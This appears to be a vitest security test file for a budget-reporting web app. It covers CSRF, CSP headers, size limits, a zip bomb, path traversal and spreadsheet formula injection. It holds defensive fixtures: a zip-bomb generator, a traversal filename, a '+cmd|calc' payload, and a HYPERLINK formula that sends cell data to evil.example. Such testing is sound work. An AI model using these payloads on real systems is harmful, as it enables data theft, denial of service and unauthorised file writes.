/**
 * Hardening, attack by attack: CSRF on cookie-authenticated writes, the CSP and other headers,
 * oversized JSON and uploads, a zip bomb (memory stays bounded), file names as paths, formula
 * injection in the error file, and no secrets or stack traces in responses or logs.
 */
import fs from 'node:fs';
import zlib from 'node:zlib';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { createApp } from '../../server/app.ts';
import { createUser } from '../../server/users/users.service.ts';

const SYSTEM = { actor: null, actorKind: 'system' as const, ip: null };
const PASSWORD = 'mật khẩu đủ dài 123';
const JSON_HEADERS = { 'content-type': 'application/json' };

async function signIn(t: TestApp, email = 'admin@stttt.gov.vn'): Promise<string> {
  const res = await t.request('/api/auth/login', {
    method: 'POST',
    headers: JSON_HEADERS,
    body: JSON.stringify({ email, password: PASSWORD }),
    as: 'anonymous',
  });
  expect(res.status).toBe(200);
  return (res.headers.get('set-cookie') ?? '').split(';')[0];
}

function upload(t: TestApp, name: string, content: Uint8Array | string, as = 'admin') {
  const form = new FormData();
  form.set('file', new File([content as BlobPart], name));
  return t.request('/api/imports', { method: 'POST', body: form, as });
}

/** A minimal zip (deflated entries) whose sheet inflates to `inflated` bytes of spaces; the directory may lie about it. */
async function buildZipBomb(inflated: number, declareTruth: boolean): Promise<Buffer> {
  const chunk = Buffer.alloc(1 << 20, 0x20);
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (d: Buffer) => parts.push(d));
  const done = new Promise((r) => deflate.on('end', r));
  let crc = 0;
  for (let n = 0; n < inflated; n += chunk.length) {
    if (!deflate.write(chunk)) await new Promise((r) => deflate.once('drain', r));
    crc = zlib.crc32(chunk, crc);
  }
  deflate.end();
  await done;
  const entries = [
    {
      name: '[Content_Types].xml',
      data: zlib.deflateRawSync('<?xml version="1.0"?><Types/>'),
      size: 29,
      crc: zlib.crc32('<?xml version="1.0"?><Types/>'),
    },
    { name: 'xl/worksheets/sheet1.xml', data: Buffer.concat(parts), size: declareTruth ? inflated : 1000, crc },
  ];
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(0, 6);
    h.writeUInt16LE(8, 8);
    h.writeUInt32LE(e.crc >>> 0, 14);
    h.writeUInt32LE(e.data.length, 18);
    h.writeUInt32LE(e.size, 22);
    h.writeUInt16LE(name.length, 26);
    local.push(h, name, e.data);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(e.crc >>> 0, 16);
    c.writeUInt32LE(e.data.length, 20);
    c.writeUInt32LE(e.size, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, cd, end]);
}

/** Runs fn while sampling RSS; returns the peak growth in MB. */
async function peakRssGrowthMb(fn: () => Promise<void>): Promise<number> {
  const base = process.memoryUsage().rss;
  let peak = base;
  const timer = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
  try {
    await fn();
  } finally {
    clearInterval(timer);
  }
  peak = Math.max(peak, process.memoryUsage().rss);
  return (peak - base) / 1024 / 1024;
}

describe('security hardening', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp({ UPLOAD_MAX_BYTES: String(2 * 1024 * 1024) });
    await createUser(
      t.deps,
      { email: 'admin@stttt.gov.vn', name: 'Admin', password: PASSWORD, grants: [{ role: 'admin', unitCode: null }] },
      SYSTEM,
    );
  });
  afterAll(() => t.close());

  describe('CSRF', () => {
    const write = (cookie: string, headers: Record<string, string>) =>
      t.request('/api/tokens', {
        method: 'POST',
        headers: { ...JSON_HEADERS, cookie, ...headers },
        body: JSON.stringify({ name: 'x' }),
      });

    it('refuses a cookie-authenticated write from another site (Origin or Sec-Fetch-Site)', async () => {
      const cookie = await signIn(t);
      const attempts: Record<string, string>[] = [
        { origin: 'https://evil.example' },
        { 'sec-fetch-site': 'cross-site' },
        { 'sec-fetch-site': 'same-site', origin: 'http://sub.localhost' },
        {},
      ];
      for (const headers of attempts) {
        const res = await write(cookie, headers);
        expect(res.status, JSON.stringify(headers)).toBe(403);
        expect(await res.json()).toMatchObject({ error: { code: 'csrf' } });
      }
      expect(await t.deps.db.selectFrom('api_tokens').select('id').where('name', '=', 'x').execute()).toEqual([]);
    });

    it('accepts it from our own pages, and reads from anywhere', async () => {
      const cookie = await signIn(t);
      expect((await write(cookie, { origin: 'http://localhost' })).status).toBe(201);
      expect((await write(cookie, { 'sec-fetch-site': 'same-origin' })).status).toBe(201);
      expect((await write(cookie, { origin: 'http://localhost:3000' })).status).toBe(201); // BASE_URL
      expect((await t.request('/api/auth/me', { headers: { cookie, origin: 'https://evil.example' } })).status).toBe(
        200,
      );
    });

    it('refuses a cross-site sign-in (login CSRF) but not a script without browser headers', async () => {
      const body = JSON.stringify({ email: 'admin@stttt.gov.vn', password: PASSWORD });
      const cross = await t.request('/api/auth/login', {
        method: 'POST',
        headers: { ...JSON_HEADERS, 'sec-fetch-site': 'cross-site' },
        body,
        as: 'anonymous',
      });
      expect(cross.status).toBe(403);
      const script = await t.request('/api/auth/login', {
        method: 'POST',
        headers: JSON_HEADERS,
        body,
        as: 'anonymous',
      });
      expect(script.status).toBe(200);
    });

    it('does not apply to bearer tokens, which a browser never sends by itself', async () => {
      const res = await t.request('/api/users', {
        method: 'POST',
        headers: { ...JSON_HEADERS, origin: 'https://evil.example' },
        body: JSON.stringify({ email: 'y@stttt.gov.vn', name: 'Y', grants: [{ role: 'admin', unitCode: null }] }),
      });
      expect(res.status).toBe(201);
    });
  });

  it('sends a strict Content-Security-Policy and the other security headers on every response', async () => {
    for (const path of ['/api/health', '/api/auth/me', '/', '/api/nope']) {
      const res = await t.request(path, { as: path === '/api/auth/me' ? 'anonymous' : 'admin' });
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("default-src 'self'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(csp).not.toContain('unsafe-inline');
      expect(csp).not.toContain('unsafe-eval');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('x-frame-options')).toBe('DENY');
      expect(res.headers.get('referrer-policy')).toBe('same-origin');
    }
  });

  it('refuses a JSON body over 1 MB with 413', async () => {
    const res = await t.request('/api/tokens', {
      method: 'POST',
      headers: JSON_HEADERS,
      body: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024) }),
    });
    expect(res.status).toBe(413);
    const login = await t.request('/api/auth/login', {
      method: 'POST',
      headers: JSON_HEADERS,
      body: JSON.stringify({ email: 'a@b.vn', password: 'x'.repeat(2 * 1024 * 1024) }),
      as: 'anonymous',
    });
    expect(login.status).toBe(413);
  });

  it('refuses an upload over UPLOAD_MAX_BYTES with 413, storing nothing', async () => {
    const line = 'STTTT,2026-10,Văn phòng phẩm,1250000,,\n';
    const big =
      'Mã đơn vị,Kỳ,Khoản chi,Số tiền (đồng),Số lượng,Ghi chú\n' +
      line.repeat(Math.ceil((3 * 1024 * 1024) / line.length));
    const res = await upload(t, 'big.csv', big);
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({ error: { code: 'payload_too_large' } });
    expect(await t.deps.db.selectFrom('figures').select('id').execute()).toEqual([]);
  });

  for (const declareTruth of [true, false]) {
    it(`refuses a zip bomb (${declareTruth ? 'honest' : 'lying'} sizes) with 413 and bounded memory`, async () => {
      const bomb = await buildZipBomb(256 * 1024 * 1024, declareTruth);
      expect(bomb.length).toBeLessThan(1024 * 1024);
      let res!: Response;
      const growth = await peakRssGrowthMb(async () => {
        res = await upload(t, 'bao-cao.xlsx', bomb);
      });
      expect(res.status).toBe(413);
      expect(await res.json()).toMatchObject({ error: { code: 'xlsx_too_large' } });
      console.log(
        `zip bomb (${declareTruth ? 'honest' : 'lying'}): ${(bomb.length / 1024).toFixed(0)} KB → 256 MB; peak RSS growth ${growth.toFixed(1)} MB`,
      );
      expect(growth).toBeLessThan(100);
    });
  }

  it('never uses the file name as a path', async () => {
    const csv = 'Mã đơn vị,Kỳ,Khoản chi,Số tiền (đồng),Số lượng,Ghi chú\nNOPE,2026-10,Văn phòng phẩm,1,,\n';
    const res = await upload(t, '../../../../tmp/tk-pwned.csv', csv);
    expect([200, 422]).toContain(res.status);
    expect(fs.existsSync('/tmp/tk-pwned.csv')).toBe(false);
  });

  it('neutralises formula injection in the error file', async () => {
    const csv =
      'Mã đơn vị,Kỳ,Khoản chi,Số tiền (đồng),Số lượng,Ghi chú\n=HYPERLINK("http://evil.example/?"&A1),2026-10,+cmd|calc,1,,@SUM(1)\n-2+3,2026-10,Văn phòng phẩm,1,,\n';
    const res = await upload(t, 'inject.csv', csv);
    expect(res.status).toBe(422);
    const { error } = (await res.json()) as { error: { details: { id: number } } };
    const file = await (await t.request(`/api/imports/${error.details.id}/errors.csv`)).text();
    const cells = file
      .replace(/^\ufeff/, '')
      .split(/\r\n/)
      .slice(1)
      .join(',')
      .split(',')
      .map((c) => c.replace(/^"|"$/g, ''));
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@]/);
    expect(file).toContain(`'=HYPERLINK`);
  });

  it('neutralises formula injection in the report workbook (XLSX export)', async () => {
    const units =
      'Mã đơn vị,Tên đơn vị,Đơn vị cấp trên,Biên chế\nEVIL,"=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",,5\n';
    const form = new FormData();
    form.set('kind', 'units');
    form.set('file', new File([units], 'units.csv'));
    expect((await t.request('/api/imports', { method: 'POST', body: form })).status).toBe(200);
    const figures =
      'Mã đơn vị,Kỳ,Khoản chi,Số tiền (đồng),Số lượng,Ghi chú\nEVIL,2026-01,Văn phòng phẩm,1000000,,@SUM(1+1)\n';
    expect((await upload(t, 'evil.csv', figures)).status).toBe(200);
    const res = await t.request('/api/reports?unit=EVIL&year=2026&format=xlsx');
    expect(res.status).toBe(200);
    const { default: ExcelJS } = await import('exceljs');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `formula in ${ws.name}!${cell.address}`).toBeFalsy();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts.some((v) => v.includes('HYPERLINK'))).toBe(true);
    for (const v of texts) expect(v, v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('answers a malformed request without a stack trace or internals', async () => {
    const res = await t.request('/api/tokens', {
      method: 'POST',
      headers: JSON_HEADERS,
      body: '{"name": ',
      via: 'session',
    });
    expect(res.status).toBe(400);
    const text = await res.text();
    expect(text).not.toMatch(/at .*\.ts:\d+|node_modules|Error:/);
  });

  it('keeps passwords, cookies and tokens out of the logs', async () => {
    const lines: string[] = [];
    const sink = new Writable({ write: (chunk, _e, cb) => (lines.push(String(chunk)), cb()) });
    const app = createApp({ ...t.deps, logger: pino({ level: 'trace' }, sink) });
    const login = await app.request('/api/auth/login', {
      method: 'POST',
      headers: JSON_HEADERS,
      body: JSON.stringify({ email: 'admin@stttt.gov.vn', password: PASSWORD }),
    });
    const cookie = (login.headers.get('set-cookie') ?? '').split(';')[0];
    const tokenRes = await app.request('/api/tokens', {
      method: 'POST',
      headers: { ...JSON_HEADERS, cookie, origin: 'http://localhost' },
      body: JSON.stringify({ name: 'log test' }),
    });
    const { token } = (await tokenRes.json()) as { token: string };
    await app.request('/api/auth/me', { headers: { authorization: `Bearer ${token}` } });
    await app.request('/api/auth/login', {
      method: 'POST',
      headers: JSON_HEADERS,
      body: JSON.stringify({ email: 'admin@stttt.gov.vn', password: 'wrong but secret' }),
    });
    const log = lines.join('');
    expect(log.length).toBeGreaterThan(0);
    for (const secret of [PASSWORD, 'wrong but secret', cookie.split('=')[1], token]) expect(log).not.toContain(secret);
  });
});
